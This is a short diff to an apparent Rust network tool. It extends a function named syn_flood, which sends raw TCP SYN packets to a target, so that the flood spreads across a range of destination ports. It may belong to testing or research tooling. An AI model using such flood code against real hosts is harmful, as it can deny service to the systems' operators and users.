@@ -8,10 +8,12 @@ use serde_json::json;
 use super::say;
 
 /// Sends bare SYNs through a raw socket (the kernel adds the IP header); bounded by `count`.
+/// The destination port runs over `to.port()`, … `to.port() + dport_span - 1`.
 pub(super) fn syn_flood(
     from: std::net::Ipv4Addr,
     to: std::net::SocketAddrV4,
     count: u32,
+    dport_span: u16,
 ) -> Result<()> {
     use socket2::{Domain, Protocol, Socket, Type};
     let sock = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::TCP))
@@ -30,7 +32,8 @@ pub(super) fn syn_flood(
     for i in 0..count {
         let mut tcp = etherparse::TcpHeader::new(
             1024 + (i % 60000) as u16,
-            to.port(),
+            to.port()
+                .saturating_add((i % u32::from(dport_span.max(1))) as u16),
             0x1000_0000 + i,
             64240,
         );
